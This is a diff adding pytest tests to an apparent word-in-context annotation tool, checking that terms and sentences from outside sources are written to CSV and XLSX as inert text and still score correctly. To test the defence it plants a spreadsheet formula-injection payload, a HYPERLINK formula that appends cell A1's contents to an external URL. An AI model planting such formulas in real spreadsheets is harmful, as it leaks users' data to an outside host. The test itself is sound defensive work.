@@ -405,3 +405,84 @@ def test_read_key_and_wic_split(tmp_path: Path) -> None:
     (tmp_path / "bad.json").write_text('{"term1": "x"}')
     with pytest.raises(S.SourceFormatError, match="a JSON list of records"):
         S.read_wic_split(tmp_path / "bad.json")
+
+
+# --------------------------------------------------------------------------------------------------
+# Formula injection: terms and sentences from third-party sources never become live formulas
+# --------------------------------------------------------------------------------------------------
+TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
+PLANTED = '=HYPERLINK("http://example.org/?"&A1,"click")'
+
+
+def planted_wic_split() -> pd.DataFrame:
+    """A WiC test split whose terms and sentences begin with each formula trigger (and an apostrophe)."""
+    rows = []
+    for i, prefix in enumerate([*TRIGGERS, "'", "'="]):
+        term = f"{prefix}t{i}" if prefix != "=" else PLANTED
+        s1, s2 = f"{prefix}Patients with {term} were seen.", f"{prefix}The u{i} level rose."
+        rows.append(
+            {
+                "term1": term,
+                "term2": f"u{i}",
+                "sentence1": s1,
+                "sentence2": s2,
+                "start1": s1.index(term, len(prefix)),
+                "end1": s1.index(term, len(prefix)) + len(term),
+                "start2": s2.index(f"u{i}"),
+                "end2": s2.index(f"u{i}") + len(f"u{i}"),
+                "cat": "identity",
+                "label": i % 2,
+            }
+        )
+    return pd.DataFrame(rows)
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=x", "''x", "'x", "x", "", "a=b"])
+def test_neutralised_cells_round_trip(value: str) -> None:
+    written = S.neutralise_cell(value)
+    assert written[:1] not in S.FORMULA_TRIGGERS
+    assert S.restore_cell(written) == value
+
+
+def test_planted_formulas_stay_text_in_csv_and_xlsx_and_score(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    sheets, key, _ = S.wic_study(planted_wic_split(), 8, 8, generator(3, "wic"))
+    sheet = sheets["a"]
+    assert len(sheet) == 8 and sheet["term1"].str[:1].isin(TRIGGERS).sum() == 6
+    assert sheet["sentence1"].str[:1].isin(TRIGGERS).sum() == sheet["sentence2"].str[:1].isin(TRIGGERS).sum() == 6
+    (tmp_path / "key.csv").write_text(S.sheet_csv(key))
+    (tmp_path / "sheet.csv").write_text(S.sheet_csv(sheet))
+    S.write_xlsx(sheet, tmp_path / "sheet.xlsx", S.WIC_INSTRUCTIONS)
+    # CSV: every formula-like cell starts with the apostrophe, so a spreadsheet shows it as text.
+    raw = pd.read_csv(tmp_path / "sheet.csv", dtype=str, keep_default_na=False)
+    for column in ("term1", "sentence1", "sentence2"):
+        assert not raw[column].str[:1].isin(TRIGGERS).any()
+    assert ("'" + PLANTED) in set(raw["term1"])
+    # XLSX: string cells, never formulas (openpyxl's data_type "s"), holding the text as written.
+    cells = [c for row in load_workbook(tmp_path / "sheet.xlsx")["items"].iter_rows(min_row=2) for c in row]
+    assert {c.data_type for c in cells if c.value is not None} == {"s"}
+    assert PLANTED in {c.value for c in cells}
+    # Both formats read back as written; filled in, they score against the (restored) key.
+    assert S.read_key(tmp_path / "key.csv")[["term1", "sentence1"]].equals(key[["term1", "sentence1"]])
+    for path in (tmp_path / "sheet.csv", tmp_path / "sheet.xlsx"):
+        back = S.read_sheet(path)
+        assert back[["term1", "sentence1", "sentence2"]].equals(sheet[["term1", "sentence1", "sentence2"]])
+    truth = S.read_key(tmp_path / "key.csv").set_index("item")["label"]
+    for name, fmt in (("r1", "csv"), ("r2", "xlsx")):
+        filled = sheet.assign(answer=[S.SAME if truth[i] == 1 else S.NOT_SAME for i in sheet["item"]])
+        if fmt == "csv":
+            (tmp_path / f"{name}.csv").write_text(S.sheet_csv(filled))
+        else:
+            S.write_xlsx(filled, tmp_path / f"{name}.xlsx")
+    answers, which = S.read_filled_sheets(
+        {"r1": tmp_path / "r1.csv", "r2": tmp_path / "r2.xlsx"},
+        S.read_key(tmp_path / "key.csv"),
+        {"a": set(sheet["item"])},
+        ["term1", "term2"],
+        kind="wic",
+    )
+    assert which == {"r1": "a", "r2": "a"}
+    scores = S.score_wic_study(answers, S.read_key(tmp_path / "key.csv"))
+    assert scores.loc[scores["measure"] == "accuracy", "value"].tolist() == [1.0, 1.0]
+    assert scores.loc[scores["measure"] == "cohen_kappa", "value"].tolist() == [1.0]
